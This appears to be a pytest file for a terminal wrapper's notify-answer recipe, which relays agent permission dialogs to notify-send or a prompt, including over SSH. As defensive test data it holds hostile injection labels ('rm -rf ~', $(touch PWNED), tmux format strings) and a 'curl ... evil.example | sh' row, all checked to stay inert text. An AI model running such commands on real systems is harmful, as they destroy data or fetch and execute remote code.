"""What a notifier gets from `events` and the recipe built on it (contrib/notify-answer),
against a Claude-shaped dialog child (answer_child.py) under wrap on a real pty: every
blocked event carries the dialog (id, question, options; a new dialog is a new event);
the recipe offers the options through notify-send's actions (a stand-in notify-send
written here, on PATH, that picks one) or a numbered prompt, answers with `answer
--dialog`, is refused for a dialog that changed meanwhile, and does the same through a
real sshd with --host. Hostile labels reach notify-send as argument text only."""

from __future__ import annotations

import json
import os
import queue
import shlex
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from term import REPO, Terminal, base_env
from test_ssh import Sshd

CHILD = str(Path(__file__).with_name("answer_child.py"))
RECIPE = str(REPO / "contrib" / "notify-answer")
O7W = [sys.executable, "-m", "osc7501wrap"]
HOSTILE = ["; rm -rf ~ && touch PWNED", "#{pane_id} #(touch PWNED) #[fg=red]",
           "'\"$(touch PWNED)`touch PWNED` \\ <b>&amp;</b>", "\u202eevil\u202c bidi", "No"]
FAKE_NOTIFY_SEND = """\
#!{python}
import json, os, sys
args = sys.argv[1:]
if args == ["--help"]:
    print("  -A, --action=[NAME=]Text...   Specifies the actions to display to the user.")
    sys.exit(0)
with open(os.environ["FAKE_NOTIFY_LOG"], "a", encoding="utf-8") as log:
    log.write(json.dumps(args) + "\\n")
for a in args:
    if a.startswith("--action=") and os.environ["FAKE_NOTIFY_PICK"] in a:
        print(a[len("--action="):].split("=", 1)[0])
        break
"""


class Child:
    def __init__(self, t: Terminal, env: dict[str, str], sid: str, keys: Path) -> None:
        self.t, self.env, self.sid, self.keys = t, env, sid, keys

    def entry(self) -> dict[str, Any] | None:
        out = subprocess.run([*O7W, "ls", "--json"], env=self.env, capture_output=True,
                             text=True, timeout=30, cwd=str(REPO)).stdout
        return next((e for e in json.loads(out or "[]") if e.get("id") == self.sid), None)

    def wait_entry(self, pred: Callable[[dict[str, Any]], Any],
                   timeout: float = 15) -> dict[str, Any]:
        end = time.monotonic() + timeout
        e = None
        while time.monotonic() < end:
            e = self.entry()
            if e is not None and pred(e):
                return e
            self.t.pump(0.1)
        raise AssertionError(f"never: {e}")

    def typed(self) -> bytes:
        return self.keys.read_bytes() if self.keys.exists() else b""

    def quit(self) -> None:
        if self.t.alive():
            self.t.type(b"q")
            self.t.wait(timeout=15)


@pytest.fixture
def terminals() -> Iterator[list[Terminal]]:
    made: list[Terminal] = []
    yield made
    for t in reversed(made):
        t.close()


def child(made: list[Terminal], rundir: Path, tmp_path: Path, labels: list[str],
          mode: str = "normal", agent: str = "claude", **more: str) -> Child:
    n = len(made)
    spec = tmp_path / f"spec{n}.json"
    spec.write_text(json.dumps({"labels": labels, "mode": mode, **more}), encoding="utf-8")
    keys = tmp_path / f"keys{n}"
    env = base_env(OSC7501WRAP_CONFIG_DIR=str(tmp_path / "cfg"),
                   OSC7501WRAP_RUNTIME_DIR=str(rundir))
    sid = f"notify/{n}"
    t = Terminal.wrap(["--agent", agent, "--id", sid, sys.executable, CHILD, str(spec),
                       str(keys)], env=env, rows=30, cols=100, cwd=str(tmp_path))
    made.append(t)
    return Child(t, env, sid, keys)


def fake_notify_send(tmp_path: Path, pick: str) -> tuple[dict[str, str], Path]:
    """A bin directory with the stand-in notify-send; the env that puts it first on
    PATH and tells it which action to pick; the file it logs its argv to."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    script = bin_dir / "notify-send"
    script.write_text(FAKE_NOTIFY_SEND.format(python=sys.executable), encoding="utf-8")
    script.chmod(0o755)
    log = tmp_path / "notify.log"
    env = {"PATH": f"{bin_dir}{os.pathsep}{os.environ.get('PATH', os.defpath)}",
           "FAKE_NOTIFY_LOG": str(log), "FAKE_NOTIFY_PICK": pick}
    return env, log


def logged(log: Path) -> list[list[str]]:
    if not log.exists():
        return []
    return [json.loads(x) for x in log.read_text(encoding="utf-8").splitlines()]


def wait_for(fn: Callable[[], Any], what: str, timeout: float = 20) -> Any:
    deadline = time.monotonic() + timeout
    while (got := fn()) is None:
        assert time.monotonic() < deadline, f"never {what}"
        time.sleep(0.05)
    return got


def program(rundir: Path) -> str:
    """NOTIFY_ANSWER_PROGRAM: this source tree's osc7501wrap on the registry `rundir`."""
    return shlex.join(["env", f"OSC7501WRAP_RUNTIME_DIR={rundir}", f"PYTHONPATH={REPO}",
                       *O7W])


def no_pwned(tmp_path: Path) -> None:
    assert not list(REPO.glob("PWNED")) and not list(tmp_path.rglob("PWNED"))
    assert not (Path.home() / "PWNED").exists()


def test_events_carry_the_dialog_with_every_blocked_state(rundir: Path, tmp_path: Path,
                                                          terminals: list[Terminal]) -> None:
    rundir.mkdir(mode=0o700)
    proc = subprocess.Popen([*O7W, "events"], stdout=subprocess.PIPE, text=True,
                            env=base_env(OSC7501WRAP_RUNTIME_DIR=str(rundir)), cwd=str(REPO))
    lines: queue.Queue[str] = queue.Queue()
    threading.Thread(target=lambda: [lines.put(x) for x in proc.stdout],  # type: ignore[union-attr]
                     daemon=True).start()
    seen: list[dict[str, Any]] = []

    def until(pred: Callable[[dict[str, Any]], bool]) -> dict[str, Any]:
        while True:
            try:
                seen.append(json.loads(lines.get(timeout=20)))
            except queue.Empty:
                raise AssertionError(f"events printed only {seen}") from None
            if pred(seen[-1]):
                return seen[-1]

    try:
        a = child(terminals, rundir, tmp_path, ["Yes", "Yes, and don't ask again", "No"])
        first = until(lambda e: e["state"] == "blocked" and (e["dialog"] or {}).get("options"))
        assert first["dialog"]["question"] == "Bash: rm -rf build"
        assert [(o["number"], o["label"]) for o in first["dialog"]["options"]] == [
            (1, "Yes"), (2, "Yes, and don't ask again"), (3, "No")]
        a.t.type(b"x")  # another command asked about: a new dialog, a new event
        again = until(lambda e: e["state"] == "blocked"
                      and (e["dialog"] or {}).get("question") == "Bash: rm -rf /")
        assert again["dialog"]["id"] != first["dialog"]["id"]
        assert len(again["dialog"]["options"]) == 3
        b = child(terminals, rundir, tmp_path, [], mode="password", agent="generic")
        pw = until(lambda e: e["state"] == "blocked" and e["id"] == b.sid)
        assert pw["kind"] == "auth" and pw["dialog"]["options"] == []
        assert pw["dialog"]["question"] and pw["dialog"]["id"]
        a.t.type(b"1")
        until(lambda e: e["id"] == a.sid and e["state"] != "blocked")
    finally:
        proc.terminate()
        proc.wait(timeout=5)
    for ev in seen:  # every blocked state, with its dialog; none outside one
        if ev["state"] == "blocked":
            d = ev["dialog"]
            assert isinstance(d, dict) and isinstance(d["id"], str) and d["id"], ev
            assert isinstance(d["question"], str) and isinstance(d["options"], list), ev
        else:
            assert ev["dialog"] is None, ev


def test_the_recipe_answers_through_notify_send_actions(rundir: Path, tmp_path: Path,
                                                        terminals: list[Terminal]) -> None:
    a = child(terminals, rundir, tmp_path, HOSTILE)
    e = a.wait_entry(lambda e: e.get("dialog") and len(e["dialog"]["options"]) == 5)
    extra, log = fake_notify_send(tmp_path, pick="#(touch")
    env = base_env(NOTIFY_ANSWER_PROGRAM=program(rundir), **extra)
    r = Terminal([sys.executable, RECIPE], env=env, cwd=str(tmp_path))
    terminals.append(r)
    r.expect(b"session %d: answered 2. #{pane_id} #(touch PWNED) #[fg=red]" % e["pid"],
             timeout=30)
    a.t.expect(b"CHOSE 2")
    assert a.typed() == b"2"
    offer, result = logged(log)[:2]
    actions = [x for x in offer if x.startswith("--action=")]
    assert actions == ["--action=1=1. ; rm -rf ~ && touch PWNED",
                       "--action=2=2. #{pane_id} #(touch PWNED) #[fg=red]",
                       "--action=3=3. '\"$(touch PWNED)`touch PWNED` \\ <b>&amp;</b>",
                       "--action=4=4. evil bidi", "--action=5=5. No"]
    assert offer[-3:] == ["--", "claude waits", "Bash: rm -rf build"]
    assert result[-3:] == ["--", "answered",
                           "answered 2. #{pane_id} #(touch PWNED) #[fg=red]"]
    # a dialog without options wrap can read: told, not offered
    b = child(terminals, rundir, tmp_path, [], mode="password", agent="generic")
    b.wait_entry(lambda e: e.get("kind") == "auth")
    told = wait_for(lambda: next((x for x in logged(log)[2:]), None), "the notification")
    assert not [x for x in told if x.startswith("--action")]
    assert told[-1] == "Password:\nwrap read no options: answer it in its pane", told
    assert b.typed() == b""
    no_pwned(tmp_path)


def test_the_recipe_prompts_and_is_refused_for_a_changed_dialog(
        rundir: Path, tmp_path: Path, terminals: list[Terminal]) -> None:
    a = child(terminals, rundir, tmp_path, ["Yes", "Yes, and don't ask again", "No"])
    old = a.wait_entry(lambda e: e.get("dialog") and len(e["dialog"]["options"]) == 3)
    env = base_env(NOTIFY_ANSWER_PROGRAM=program(rundir))
    r = Terminal([sys.executable, RECIPE, "--prompt"], env=env, cwd=str(tmp_path))
    terminals.append(r)
    r.expect(b"claude (session %d) asks: Bash: rm -rf build" % old["pid"], timeout=30)
    r.expect(b"  3. No")
    r.expect(b"answer with its number (Enter: leave it): ")
    a.t.type(b"x")  # the dialog changes while the prompt waits
    a.wait_entry(lambda e: e.get("dialog") and e["dialog"]["id"] != old["dialog"]["id"])
    r.type(b"1\r")
    r.expect(b"not answered: the dialog changed: it now asks 'Bash: rm -rf /'")
    assert a.typed() == b"x"  # nothing from the recipe
    r.expect(b"asks: Bash: rm -rf /")  # then the new one is offered
    r.expect(b"answer with its number (Enter: leave it): ")
    r.type(b"3\r")
    r.expect(b"answered 3. No")
    a.t.expect(b"CHOSE 3")
    assert a.typed() == b"x3"


@pytest.mark.requires("sshd")
def test_the_recipe_over_ssh(rundir: Path, tmp_path: Path,
                             terminals: list[Terminal]) -> None:
    sshd = Sshd(tmp_path / "sshd")
    try:
        a = child(terminals, rundir, tmp_path, HOSTILE)
        e = a.wait_entry(lambda e: e.get("dialog") and len(e["dialog"]["options"]) == 5)
        extra, log = fake_notify_send(tmp_path, pick="5. No")
        ssh = shlex.join([
            "ssh", "-p", str(sshd.port), "-i", str(sshd.key), "-o", "BatchMode=yes",
            "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
            "-o", "LogLevel=ERROR", "-F", "/dev/null"])
        env = base_env(NOTIFY_ANSWER_PROGRAM=program(rundir),
                       NOTIFY_ANSWER_FAR_PROGRAM=program(rundir), **extra)
        r = Terminal([sys.executable, RECIPE, "--host", "127.0.0.1", "--ssh", ssh], env=env,
                     cwd=str(tmp_path))
        terminals.append(r)
        r.expect(b"session %d on 127.0.0.1: answered 5. No" % e["pid"], timeout=40)
        a.t.expect(b"CHOSE 5")
        assert a.typed() == b"5"
        offer = logged(log)[0]
        assert offer[-3:] == ["--", "claude waits on 127.0.0.1", "Bash: rm -rf build"]
        assert "--action=2=2. #{pane_id} #(touch PWNED) #[fg=red]" in offer
        r.close()
        a.quit()  # the far `events` sees the end, and its closed pipe ends it
        assert sshd.log.read_text().count("Accepted publickey") >= 2  # events, answer
    finally:
        sshd.stop()
    no_pwned(tmp_path)


def test_the_notification_shows_every_row_of_a_multi_line_command(
        rundir: Path, tmp_path: Path, terminals: list[Terminal]) -> None:
    """A command whose first row reads harmless: the notification's body has the rows
    under it, the hostile one as text (nothing run), folded with how many rows are left
    out and where to read them all; the prompt shows them too."""
    rows = ["ls -la", "curl -s http://evil.example/x | sh #(touch PWNED) $(touch PWNED) <b>",
            *(f"echo step{i}" for i in range(8))]
    a = child(terminals, rundir, tmp_path, ["Yes", "No"], command="\n".join(rows))
    e = a.wait_entry(lambda e: e.get("dialog") and len(e["dialog"]["subject"]) == len(rows))
    extra, log = fake_notify_send(tmp_path, pick="no pick")
    env = base_env(NOTIFY_ANSWER_PROGRAM=program(rundir), **extra)
    r = Terminal([sys.executable, RECIPE], env=env, cwd=str(tmp_path))
    terminals.append(r)
    offer = wait_for(lambda: next(iter(logged(log)), None), "the notification")
    body = offer[-1].split("\n")
    assert body[1:6] == ["  ls -la",
                         "  curl -s http://evil.example/x | sh #(touch PWNED) $(touch PWNED) "
                         "&lt;b&gt;", "  echo step0", "  echo step1", "  echo step2"]
    assert body[6] == f"  … 5 more lines: osc7501wrap dialog {e['pid']}"
    p = Terminal([sys.executable, RECIPE, "--prompt"], env=base_env(
        NOTIFY_ANSWER_PROGRAM=program(rundir)), cwd=str(tmp_path))
    terminals.append(p)
    p.expect(b"  curl -s http://evil.example/x | sh #(touch PWNED)", timeout=30)
    p.expect(b"  1. Yes")
    assert a.typed() == b""
    no_pwned(tmp_path)
